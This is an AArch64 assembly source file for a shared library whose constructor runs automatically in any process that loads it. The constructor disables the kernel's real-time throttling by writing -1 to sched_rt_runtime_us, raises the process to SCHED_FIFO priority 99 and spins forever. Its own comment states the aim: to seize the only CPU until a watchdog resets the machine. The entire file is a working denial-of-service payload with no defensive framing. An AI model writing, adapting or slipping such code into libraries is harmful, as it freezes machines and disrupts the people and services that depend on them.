// Runs in every process that loads the library, before its main: takes the only CPU for itself for ever, if the process
// may. Interrupts are still served, so only a watchdog that a program feeds ends it.
        .text
init:   mov     x0, #-100               // AT_FDCWD
        adr     x1, path
        mov     x2, #1                  // O_WRONLY
        mov     x3, #0
        mov     x8, #56                 // openat
        svc     #0
        adr     x1, always
        mov     x2, #2
        mov     x8, #64                 // write
        svc     #0
        mov     x0, #0                  // this process
        mov     x1, #1                  // SCHED_FIFO
        adr     x2, highest
        mov     x8, #119                // sched_setscheduler
        svc     #0
        cbnz    x0, done
ever:   b       ever
done:   ret
        .balign 4
highest: .word  99
path:   .asciz  "/proc/sys/kernel/sched_rt_runtime_us"
always: .ascii  "-1"
        .section .init_array, "aw"
        .balign 8
        .xword  init
        .section .note.GNU-stack, "", %progbits
